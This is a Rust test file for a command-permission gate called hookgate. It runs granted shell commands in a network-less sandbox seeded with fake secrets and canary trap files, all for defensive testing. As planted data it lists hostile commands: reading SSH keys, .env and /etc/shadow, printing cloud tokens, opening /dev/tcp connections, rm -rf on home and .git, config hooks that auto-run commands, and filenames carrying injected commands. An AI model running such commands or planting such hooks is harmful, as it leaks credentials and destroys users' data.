//! The oracle of grants: what `readonly` and `develop` grant is really run, and must do nothing.
//!
//! A generator goes over the grammar of bash and zsh (expansions, builtins with options, redirections, compounds, assignments) and over
//! the reviewed rows of the programs that are installed here, and puts a payload into each place for a text. What the gate grants
//! is run in a namespace without network, in a project with planted secrets. A finding is a payload that ran, a secret that was opened or
//! printed, a host that was called, or a file that changed. `scripts/grants.sh` runs the long form.
//!
//! That the oracle isn't blind is a test of its own: texts that do such things, at random places between harmless ones, are all found.

#![expect(clippy::expect_used, reason = "a test may panic, and says where")]
#![expect(clippy::indexing_slicing, reason = "a test may panic, and says where")]

mod driver;
mod forms;
mod generator;
mod languages;
mod payloads;
mod room;

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::fs;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use hookgate_agents::Value;
use hookgate_testing::Draw;

use crate::room::Rooms;

/// Texts of a shell that are granted and run, unless `HOOKGATE_GRANTS` says how many; of the programs half as many.
const QUICK: usize = 600;

/// What the planted secrets say.
const SECRET: &str = "PLANTED-SECRET-4711";

/// The rooms start this binary anew: then this test runs their texts, and does nothing otherwise.
#[test]
fn the_driver_of_a_room() {
    if let Some(orders) = driver::Orders::read() {
        driver::drive(&orders);
    }
}

/// With `readonly` in a project full of traps, and with `develop` in one whose own code is harmless: nothing that is granted runs a
/// payload, changes what it may not, reveals a secret or calls anybody.
#[test]
#[ignore = "minutes long: scripts/grants.sh runs it"]
fn what_is_granted_does_nothing_when_it_is_run() {
    if !rooms_work() {
        return;
    }
    let get = |name: &str| std::env::var(name).ok().and_then(|text| text.parse::<usize>().ok());
    let wanted = get("HOOKGATE_GRANTS").unwrap_or(QUICK);
    let programs_wanted = get("HOOKGATE_GRANTS_PROGRAMS").unwrap_or(wanted / 2);
    let seed = get("HOOKGATE_GRANTS_SEED").unwrap_or_default() as u64;
    let mut all = Vec::new();
    let (bash, zsh) = (room::bash(), room::zsh());
    let (mut shell, mut in_zsh, mut programs) = (0, 0, BTreeMap::<String, usize>::new());
    let mut seen = HashSet::new();
    for develops in [false, true] {
        let place = Place::new(!develops);
        if wanted > 0 {
            let mut source = generator::Shell::new(seed, develops, wanted);
            let texts = place.granted(wanted / 2, &mut seen, &mut |granted| source.more(granted));
            let run = place.run(&texts, "texts in bash", &bash, false);
            shell += texts.len() - run.missing.len();
            all.extend(findings(&run, &texts));
            if let Some(zsh) = &zsh {
                let run = place.run(&texts, "texts in zsh", zsh, false);
                in_zsh += texts.len() - run.missing.len();
                all.extend(findings(&run, &texts));
            }
        }
        if programs_wanted > 0 {
            let mut source = generator::Programs::new(seed, develops, programs_wanted, &room::installed);
            let texts = place.granted(programs_wanted / 2, &mut seen, &mut |_| source.more());
            let run = place.run(&texts, "calls of programs", &bash, true);
            all.extend(findings(&run, &texts));
            let missing: BTreeSet<usize> = run.missing.into_iter().collect();
            for (_, text) in texts.iter().enumerate().filter(|(index, _)| !missing.contains(index)) {
                *programs.entry(source.program(text)).or_default() += 1;
            }
        }
    }
    let runs: usize = programs.values().sum();
    eprintln!(
        "{shell} texts of a shell{} and {runs} calls of {} programs were granted and run; {} did something",
        if zsh.is_some() {
            format!(" ({in_zsh} of them in zsh too)")
        } else {
            ", without zsh, which isn't installed".to_owned()
        },
        programs.len(),
        all.len()
    );
    assert!(all.is_empty(), "{} grants were wrong:\n{}", all.len(), all.join("\n"));
    assert!(shell * 10 >= wanted * 9, "only {shell} texts of a shell were granted");
    assert!(runs * 10 >= programs_wanted * 8, "only {runs} calls of programs were granted");
}

/// Texts that are known to be wrong, at random places between harmless ones: each is found, and nothing else.
#[test]
#[ignore = "half a minute long: scripts/grants.sh runs it"]
fn the_oracle_finds_what_is_planted() {
    if !rooms_work() {
        return;
    }
    let harmless = [
        "echo a",
        "ls -la",
        "cat a.txt | sort | uniq -c",
        "git status",
        "git log --oneline",
        "grep -r one src",
        "for f in *; do echo \"$f\"; done",
        "cat /etc/hostname",
        "find . -name '*.rs' | head -3",
        "sleep 0.01 & wait",
        "echo '$(touch canary)'",
        "grep -c canary a.txt",
        "echo touch canary",
        "git diff; git status --short",
        "stat .env",
        "ls ~/.ssh",
        "x=$(cat a.txt); echo \"${x^^}\"",
        "mktemp",
    ];
    let planted: &[(&str, &str)] = &[
        ("touch canary", "ran"),
        ("touch src/canary", "ran"),
        ("touch /tmp/canary-x", "ran"),
        ("cd / && touch canary", "ran"),
        ("cd /usr && : > canary", "ran"),
        ("{ sleep 0.3; touch canary; } > /dev/null 2>&1 &", "ran"),
        ("(setsid touch canary &); sleep 0.1", "ran"),
        ("find . -maxdepth 1 -name a.txt -exec touch canary ';' -exec cp canary ../c ';'", "ran"),
        ("cat .env", "printed"),
        ("cat .env > /dev/null", "opened"),
        ("cd ~/.ssh; head -c 1 id_rsa > /dev/null", "opened"),
        ("cat ~/.ssh/id_rsa | rev | rev | rev", "printed"),
        ("echo ${GITHUB_TOKEN,,}", "printed"),
        ("echo ${GITHUB_TOKEN:3}", "printed"),
        ("base64 <<< \"x$AWS_SECRET_ACCESS_KEY\"", "printed"),
        ("xxd -p <<< \"$AWS_SECRET_ACCESS_KEY\"", "printed"),
        ("yes 2>/dev/null | head -c 300000; env", "printed"),
        ("ln -s ~/.netrc n; cat n | tr A-Z a-z > /dev/null", "changed"),
        ("cat ../../../../../../../../etc/shadow | cat >/dev/null | cat", "opened"),
        ("exec 3<>/dev/tcp/192.0.2.1/80", "called"),
        ("echo x > /dev/udp/192.0.2.1/53", "called"),
        ("echo x > /dev/tcp/::2/53", "called"),
        ("echo x >> a.txt", "changed"),
        ("printf 'one\\ntwo 2\\n' > a.txt", "changed"),
        ("touch b.txt", "ran"),
        ("rm b.txt", "changed"),
        ("rm -rf .git", "changed"),
        ("rm -rf src; echo > src", "changed"),
        ("mv .env e", "changed"),
        ("chmod +x a.txt", "changed"),
        ("rm -rf ~/* ~/.[a-z]*; cd /; ls", "changed"),
        ("chmod 000 src", "changed"),
        ("ln -sf /etc/hostname a.txt", "changed"),
        ("cp a.txt ~/.profile", "changed"),
        ("mkdir -p d/e/f", "changed"),
        ("git config user.name x", "changed"),
        ("hostname hookgate", "changed"),
        ("mount -t tmpfs none /mnt; echo", "changed"),
        ("python3 -c 'import os; os.rename(\"a.txt\", \"b.txt\")'", "changed"),
        ("trap '' TERM HUP INT; sleep 1000 & sleep 1000; :", "late"),
    ];
    let place = Place::new(true);
    let mut draw = Draw::new(4711);
    let mut texts: Vec<(String, Option<&str>)> =
        (0..150).map(|index| (harmless[index % harmless.len()].to_owned(), None)).collect();
    for (text, what) in planted {
        texts.insert(draw.below(texts.len()), ((*text).to_owned(), Some(what)));
    }
    let list: Vec<String> = texts.iter().map(|(text, _)| text.clone()).collect();
    let run = place.run(&list, "planted texts", &room::bash(), false);
    for (index, (text, planted)) in texts.iter().enumerate() {
        let found = run.findings.get(&index).map(|found| found.join("; ")).unwrap_or_default();
        match planted {
            None => assert_eq!(found, "", "blamed: {text}"),
            Some("late") => assert!(run.late > 0, "not ended by the clock: {text}"),
            Some(what) => assert!(found.contains(what), "not seen to have {what}: {text} (but: {found})"),
        }
    }
}

/// What was wrong, each with its text and the one before it.
fn findings(run: &room::Run, texts: &[String]) -> Vec<String> {
    let line = |(index, what): (&usize, &Vec<String>)| {
        let before = index.checked_sub(1).and_then(|index| texts.get(index));
        format!("{}: {} (behind: {before:?})", what.join("; "), texts[*index])
    };
    run.findings.iter().map(line).collect()
}

/// Whether a program that this needs is missing.
fn rooms_work() -> bool {
    let arguments = ["strace", "-f", "-qq", "-o", "/dev/null", "mount", "--make-rprivate", "/"];
    let status = Command::new("unshare").args(room::NAMESPACES).args(arguments).status();
    hookgate_testing::needs("unshare -r -n -m -p strace", status.is_ok_and(|status| status.success()))
}

/// A throw-away home with a project, and what is granted there.
struct Place {
    base: tempfile::TempDir,
    driver: PathBuf,
    home: PathBuf,
    project: PathBuf,
    hostile: bool,
}

impl Place {
    fn new(hostile: bool) -> Place {
        let base = tempfile::Builder::new().prefix("grants-").tempdir_in("/var/tmp").expect("a directory");
        let (home, project) = plant(base.path(), hostile);
        // A room has a `/tmp` of its own, which hides a checkout that lies there.
        let driver = base.path().join("driver");
        fs::copy(std::env::current_exe().expect("this program"), &driver).expect("a copy");
        Place { base, driver, home, project, hostile }
    }

    fn run(&self, texts: &[String], what: &str, shell: &driver::Shell, more: bool) -> room::Run {
        let begun = std::time::Instant::now();
        let develops = !self.hostile;
        let quiet = what.starts_with("planted");
        // What is planted has to have done it, on a busy machine too.
        let limit = Duration::from_secs(if quiet { 30 } else { 3 });
        let rooms = Rooms {
            base: self.base.path(),
            driver: &self.driver,
            home: &self.home,
            project: &self.project,
            develops,
            more,
            quiet,
            limit,
            shell,
        };
        let run = rooms.run(texts);
        eprintln!(
            "{} {what} run with {} in {} s: {} were ended by the clock, of {} the program is missing, {} did something",
            texts.len(),
            if develops { "develop" } else { "readonly" },
            begun.elapsed().as_secs(),
            run.late,
            run.missing.len(),
            run.findings.len()
        );
        run
    }

    /// As many texts of a source as are wanted and granted, each once. The source is told what was granted of it so far.
    fn granted(
        &self,
        wanted: usize,
        seen: &mut HashSet<String>,
        source: &mut dyn FnMut(&[String]) -> Vec<String>,
    ) -> Vec<String> {
        let mut granted = Vec::new();
        let mut judged = 0;
        while granted.len() < wanted {
            let mut texts = source(&granted);
            texts.retain(|text| !text.contains('\0') && seen.insert(text.clone()));
            if texts.is_empty() {
                break;
            }
            judged += texts.len();
            granted.extend(self.judge(&texts));
        }
        granted.truncate(wanted);
        let read = granted.iter().filter(|text| languages::holds_one(text)).count();
        eprintln!(
            "{} texts are granted of {judged}, {read} of them with Python or JavaScript",
            granted.len()
        );
        granted
    }

    /// Those of the texts that the gate grants.
    fn judge(&self, texts: &[String]) -> Vec<String> {
        let presets: &[&str] = if self.hostile { &["readonly"] } else { &["readonly", "develop"] };
        let input: String =
            texts.iter().map(|text| format!("{}\n", serde_json::json!({ "command": text }))).collect();
        let mut child = Command::new(env!("CARGO_BIN_EXE_hookgate"))
            .args(["check", "--batch", "--isolated", "--json"])
            .args(presets.iter().flat_map(|preset| ["--preset", preset]))
            .arg("--cwd")
            .arg(&self.project)
            .env("HOME", &self.home)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("hookgate");
        let mut stdin = child.stdin.take().expect("its input");
        let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
        let output = child.wait_with_output().expect("its output");
        writer.join().expect("a thread").expect("all of the input");
        let answers = String::from_utf8_lossy(&output.stdout);
        assert_eq!(answers.lines().count(), texts.len(), "an answer for each text");
        let allowed = |line: &str| {
            let answer: Value = serde_json::from_str(line).expect("an answer");
            answer.get("decision").and_then(Value::as_str) == Some("allow")
        };
        texts
            .iter()
            .zip(answers.lines())
            .filter(|(_, line)| allowed(line))
            .map(|(text, _)| text.clone())
            .collect()
    }
}

/// A home and a project in it, with planted secrets; `hostile` adds files of every kind that programs read by themselves, each of
/// which would leave the canary.
fn plant(base: &Path, hostile: bool) -> (PathBuf, PathBuf) {
    let home = base.join("home/dev");
    let project = home.join("project");
    for directory in [".ssh", ".aws", "project/src", "project/.vscode"] {
        fs::create_dir_all(home.join(directory)).expect("a directory");
    }
    let files = [
        (".ssh/id_rsa", SECRET),
        (".aws/credentials", SECRET),
        (".netrc", SECRET),
        ("project/.env", SECRET),
        ("project/token.json", SECRET),
        ("project/a.txt", "one\ntwo 2\n"),
        ("project/b.txt", "one\n"),
        ("project/data.json", "{\"a\": [1, 2]}\n"),
        ("project/src/main.rs", "fn main() {}\n"),
        ("project/.gitignore", ".env\ntoken.json\n"),
    ];
    let traps = [
        ("project/Makefile", "all:\n\ttouch canary-make\n"),
        ("project/json.py", "open('canary-python', 'w')\n"),
        ("project/conftest.py", "open('canary-pytest', 'w')\n"),
        ("project/.vimrc", "!touch canary-vim\n"),
        ("project/package.json", "{\"scripts\": {\"test\": \"touch canary-npm\"}}\n"),
        ("project/sitecustomize.py", "open('canary-site', 'w')\n"),
        ("project/setup.py", "open('canary-setup', 'w')\n"),
        ("project/.npmrc", "script-shell=./trap.sh\nbrowser=./trap.sh\neditor=./trap.sh\n"),
        ("project/trap.sh", "touch canary-script\n"),
        ("project/.exrc", "!touch canary-ex\n"),
        ("project/.screenrc", "exec touch canary-screen\n"),
        ("project/.gdbinit", "shell touch canary-gdb\n"),
        ("project/.ripgreprc", "--pre=touch\n"),
        ("project/.gitattributes", "*.txt diff=trap filter=trap\n"),
        ("project/pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-p canary'\n"),
        ("project/.tmux.conf", "run-shell 'touch canary-tmux'\n"),
        ("project/justfile", "default:\n\ttouch canary-just\n"),
        ("project/Taskfile.yml", "version: 3\ntasks:\n  default: touch canary-task\n"),
        ("project/.mise.toml", "[hooks]\nenter = 'touch canary-mise'\n"),
        ("project/.env.js", "require('fs').writeFileSync('canary-node', '')\n"),
        ("project/-o", ""),
        ("project/-exec touch canary ;", ""),
        ("project/$(touch canary-name)", ""),
        ("project/new\n-o canary", ""),
        ("project/.inputrc", "$include canary\n"),
        ("project/.envrc", "touch canary-envrc\n"),
        ("project/.rspec", "--require ./canary\n"),
        ("project/Rakefile", "`touch canary-rake`\n"),
        ("project/Gemfile", "`touch canary-gem`\n"),
        ("project/eslint.config.js", "require('fs').writeFileSync('canary-eslint', '')\n"),
        ("project/.prettierrc.js", "require('fs').writeFileSync('canary-prettier', '')\n"),
        ("project/noxfile.py", "open('canary-nox', 'w')\n"),
        ("project/tasks.py", "open('canary-invoke', 'w')\n"),
        ("project/CMakeLists.txt", "execute_process(COMMAND touch canary-cmake)\n"),
        ("project/ansible.cfg", "[defaults]\naction_plugins = .\ninventory = ./trap.sh\n"),
        ("project/.pylintrc", "[MASTER]\ninit-hook=\"open('canary-pylint', 'w')\"\n"),
    ];
    for (path, content) in files.iter().chain(traps.iter().filter(|_| hostile)) {
        fs::write(home.join(path), content).expect("a file");
    }
    let git = |arguments: &[&str]| {
        let status = Command::new("git").args(arguments).current_dir(&project).env("HOME", &home).output();
        assert!(status.expect("git").status.success(), "git {arguments:?}");
    };
    git(&["init", "-q", "-b", "main"]);
    // Tracked, so that what is put back before the next text leaves the secrets ignored.
    git(&["add", "a.txt", "b.txt", "src", ".gitignore"]);
    git(&["-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "Begin"]);
    if hostile {
        // A repository inside of the project, as a checkout or an unpacked archive may bring it.
        let inner = project.join("inner");
        fs::create_dir_all(inner.join("objects")).expect("a directory");
        fs::create_dir_all(inner.join("refs")).expect("a directory");
        fs::write(inner.join("HEAD"), "ref: refs/heads/main\n").expect("a file");
        fs::write(
            inner.join("config"),
            "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = touch ../canary-git\n",
        )
        .expect("a file");
    }
    (home, project)
}
